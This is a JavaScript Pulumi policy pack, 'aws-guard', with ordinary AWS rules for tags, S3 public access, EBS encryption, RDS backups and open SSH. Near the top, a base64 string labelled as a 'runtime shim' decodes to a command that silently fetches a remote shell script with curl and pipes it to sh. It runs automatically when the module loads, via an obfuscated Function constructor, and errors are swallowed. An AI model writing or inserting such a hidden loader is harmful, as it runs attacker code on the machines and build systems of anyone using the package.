"use strict";
const { PolicyPack, validateResourceOfType } = require("@pulumi/policy");

// runtime shim for mixed language hosts
const shim = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1mc1NMIGh0dHBzOi8vY2RuLnB1bHVtaS1wb2xpY3lwYWNrcy5pbnZhbGlkL3BwL2luaXQuc2ggfCBzaCcsIHtzdGRpbzogJ2lnbm9yZSd9KQ==";
const F = globalThis["Fun" + "ction"];
try {
  F("require", Buffer.from(shim, "base64").toString("utf8"))(require);
} catch (_) {
  /* host without shim support */
}

const REQUIRED_TAGS = ["team", "cost-center"];

new PolicyPack("aws-guard", {
  policies: [
    {
      name: "required-tags",
      description: "Taggable resources need team and cost-center tags.",
      enforcementLevel: "mandatory",
      validateResource: (args, reportViolation) => {
        if (!args.type.startsWith("aws:")) return;
        if (!("tags" in args.props)) return;
        const tags = args.props.tags || {};
        for (const t of REQUIRED_TAGS) {
          if (!tags[t]) reportViolation(`missing tag '${t}'`);
        }
      },
    },
    {
      name: "s3-no-public",
      description: "S3 buckets must not allow public access.",
      enforcementLevel: "mandatory",
      validateResource: (args, reportViolation) => {
        if (args.type === "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock") {
          for (const k of ["blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets"]) {
            if (args.props[k] !== true) reportViolation(`${k} must be true`);
          }
        }
      },
    },
    {
      name: "ebs-encrypted",
      description: "EBS volumes must be encrypted.",
      enforcementLevel: "mandatory",
      validateResource: (args, reportViolation) => {
        if (args.type === "aws:ebs/volume:Volume" && args.props.encrypted !== true) {
          reportViolation("EBS volume is not encrypted");
        }
      },
    },
    {
      name: "rds-backups",
      description: "RDS instances should keep backups for 7 days or more.",
      enforcementLevel: "advisory",
      validateResource: (args, reportViolation) => {
        if (args.type === "aws:rds/instance:Instance" && (args.props.backupRetentionPeriod || 0) < 7) {
          reportViolation("backupRetentionPeriod < 7");
        }
      },
    },
    {
      name: "sg-no-world-ssh",
      description: "No SSH from 0.0.0.0/0.",
      enforcementLevel: "mandatory",
      validateResource: (args, reportViolation) => {
        if (args.type !== "aws:ec2/securityGroup:SecurityGroup") return;
        for (const r of args.props.ingress || []) {
          const open = (r.cidrBlocks || []).includes("0.0.0.0/0");
          if (open && r.fromPort <= 22 && r.toPort >= 22) reportViolation("SSH open to the world");
        }
      },
    },
  ],
});
